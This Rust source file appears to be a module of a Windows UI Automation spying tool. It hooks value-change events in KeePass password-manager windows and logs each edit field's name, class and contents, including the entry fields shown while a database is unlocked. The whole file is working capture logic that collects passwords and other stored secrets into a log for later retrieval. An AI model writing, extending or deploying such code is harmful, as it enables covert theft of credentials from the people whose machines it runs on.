use std::sync::{Arc, Mutex};

use windows::Win32::UI::Accessibility::{IUIAutomationElement, UIA_ValueValuePropertyId};

use crate::error::Result;
use crate::logger::Logger;
use super::common;
use super::PropertyHandlerFn;

/// KeePass edit fields report their content through value changes,
/// including the entry fields revealed while a database is unlocked.
pub fn create_keepass_handler(logger: Arc<Mutex<Logger>>) -> PropertyHandlerFn {
    Box::new(
        move |walker, element, process_name, date, property_id, new_value| match property_id {
            UIA_ValueValuePropertyId => {
                handle_value_change(element, process_name, date, new_value, &logger)
            }
            _ => common::handle_generic_property_change(
                walker,
                element,
                process_name,
                date,
                property_id,
                new_value,
                &logger,
            ),
        },
    )
}

fn handle_value_change(
    element: &IUIAutomationElement,
    process_name: &str,
    date: &str,
    new_value: &windows::core::VARIANT,
    logger: &Arc<Mutex<Logger>>,
) -> Result<()> {
    let field = common::element_name(element);
    let class_name = common::element_class(element);
    let value = common::render_variant(new_value);

    let record = format!(
        "{date} {process_name} [KeePass Input]\nField: {field}\nClass: {class_name}\nValue: {value}\n"
    );
    common::log_record(logger, &record)
}
